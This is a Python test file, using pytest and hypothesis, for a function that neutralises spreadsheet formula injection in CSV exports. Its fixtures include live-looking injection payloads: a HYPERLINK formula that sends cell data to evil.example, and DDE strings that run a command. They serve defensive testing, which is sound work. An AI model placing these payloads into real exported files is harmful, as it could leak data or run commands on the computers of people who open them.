"""What anybody wrote goes out in a table as words that no spreadsheet calculates, and comes back as it was."""

import csv
import io
import re
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from briefing_app.core.inert_cells import guard, unguard

SIGNS = tuple("=+-@＝＋－＠﹢﹣﹦﹫")
FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\n=1+1",
    "＝1+1",
)
ODD = st.sampled_from(list("=+-@\t\r\n ,;\"''＝\u200b\u2028a1"))
TEXTS = st.text(alphabet=ODD | st.characters(codec="utf-8"), max_size=14)


def starts_a_formula(cell: str) -> bool:
    """As the most careless spreadsheet reads it: past everything that is not seen."""
    seen = (each for each in cell if not each.isspace() and unicodedata.category(each) not in ("Cc", "Cf"))
    return next((each for each in seen if each != '"'), "").startswith(SIGNS)


@given(TEXTS)
@example("'=x")
@example("''\t=x")
@example(";'';\"=x")
@settings(max_examples=1000, deadline=None)
def test_whatever_is_guarded_comes_back_and_none_of_its_parts_starts_a_formula(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    assert not guarded.startswith(("\t", "\r", "\n"))
    assert not any(map(starts_a_formula, re.split(r"[;\t\r\n]", guarded)))
    assert guarded.replace("'", "") == text.replace("'", "")


@given(cells=st.lists(TEXTS, min_size=1, max_size=6), divider=st.sampled_from(",;\t"), is_quoted=st.booleans())
@settings(max_examples=500, deadline=None)
def test_nor_does_a_cell_of_a_file_whatever_the_spreadsheet_divides_by(
    cells: list[str], divider: str, is_quoted: bool
) -> None:
    out = io.StringIO(newline="")
    writer = csv.writer(out, quoting=csv.QUOTE_ALL if is_quoted else csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(map(guard, cells))
    lines = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=divider))
    assert not any(starts_a_formula(cell) for line in lines for cell in line)


@pytest.mark.parametrize("formula", FORMULAS)
def test_known_attacks_are_words(formula: str) -> None:
    assert guard(formula).startswith("'")


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x\n=1+1", "x\n'=1+1"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ('x;"=1+1";', 'x;\'"=1+1";'),
        ("x;  -1", "x;'  -1"),
        ("x\r\n+1", "x\r\n'+1"),
        ("'=x", "''=x"),
        ("'\tx", "''\tx"),
    ],
)
def test_what_might_be_a_cell_of_its_own_is_words_and_so_is_what_looks_guarded(text: str, guarded: str) -> None:
    assert guard(text) == guarded


@pytest.mark.parametrize("plain", ["", "2026-01-01", "a=b", "'quoted'", "半導体", "1-2", "x, -1", "a; b\nc", "''"])
def test_plain_words_stay_as_they_are(plain: str) -> None:
    assert guard(plain) == unguard(plain) == plain


@pytest.mark.parametrize("foreign", ["=x", "a;=1", "\n", "－"])
def test_words_of_others_that_were_never_guarded_lose_nothing(foreign: str) -> None:
    assert unguard(foreign) == foreign
